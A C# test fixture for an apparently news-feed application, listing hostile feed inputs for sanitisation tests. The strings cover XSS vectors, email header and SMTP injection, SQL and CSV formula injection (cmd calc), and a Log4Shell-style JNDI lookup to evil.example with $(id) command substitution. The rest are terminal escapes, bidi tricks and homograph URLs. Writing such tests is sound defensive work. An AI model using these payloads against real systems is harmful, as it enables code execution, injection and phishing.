namespace NewsWatch.Tests.Hostile;

/// <summary>Texts that a feed may hold and that mean harm somewhere.</summary>
internal static class Payloads
{
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["script"] = "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe srcdoc='<script>1</script>'></iframe>",
        ["remote-loads"] = "<img src=http://evil.example/1px><style>@import 'http://evil.example/x.css'</style><base href=http://evil.example/><link rel=stylesheet href=//evil.example/>",
        ["forms"] = "<form action=http://evil.example/><input name=p><button>ok</button></form><meta http-equiv=refresh content='0;url=http://evil.example/'>",
        ["polyglot"] = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        ["links"] = "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) [free](http://evil.example/) <http://evil.example|https://wsj.com>",
        ["header"] = "Hi\r\nBcc: evil@evil.example\r\nX-Evil: 1\r\n\r\nbody",
        ["bare-breaks"] = "a\nBcc: evil@evil.example\rX-Evil: 1\u2028X-Evil: 2\u0085X-Evil: 3\u2029X-Evil: 4\vX-Evil: 5\f",
        ["encoded-breaks"] = "a%0d%0aBcc:%20evil@evil.example &#13;&#10;X-Evil: 1 =?utf-8?q?=0D=0ABcc:_evil@evil.example?= \\r\\nX-Evil: 2",
        ["dots"] = ".\r\n.\r\n\r.\r\n\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\nDATA",
        ["terminal"] = "\u001b[31mred\u001b]0;title\u0007\u001b]8;;http://evil.example\u0007x\u001b[2J\u009b31m\u0008\u0008\u007f",
        ["bidi"] = "\u202Etxt.exe\u202C \u2066abc\u2069 \u200Fx\u200Ey \u061Cz \u200B\uFEFF\u00AD\u2060\U000E0041",
        ["nulls"] = "a\0b\u0001c\uFFFEd\uFFFF \uD800 e \uDC00",
        ["zalgo"] = "Z" + new string('\u0301', 1_000) + "a" + new string('\u20DD', 1_000),
        ["long"] = new string('x', 50_000),
        ["mentions"] = "@everyone @here <!channel> <!here> <@U123> <@&1> <#C1> &lt;!channel&gt; <!subteam^S1> <at>all</at>",
        ["markdown"] = "*b* _i_ ~s~ `c` ```code``` ||spoiler|| # h\n> quote\n- list ![i](http://evil.example/1px) <u>u</u> \\*x\\*",
        ["templates"] = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} {1} %s %n %x {Source} ${jndi:ldap://evil.example/a} $(id) `id`",
        ["sql"] = "'; DROP TABLE item; -- \" OR 1=1",
        ["formula"] = "=cmd|' /C calc'!A0 +1+1 -1+1 @SUM(1+1)\t=1+1",
        ["json"] = "\",\"admin\":true,\"x\":\"</script>\u2028\\u0000\\",
        ["homograph"] = "https://w\u0455j.com/a https://wsj.com@evil.example/ https://xn--wj-eoc.com/ \u2044\u2215\uFF0F",
    };
}
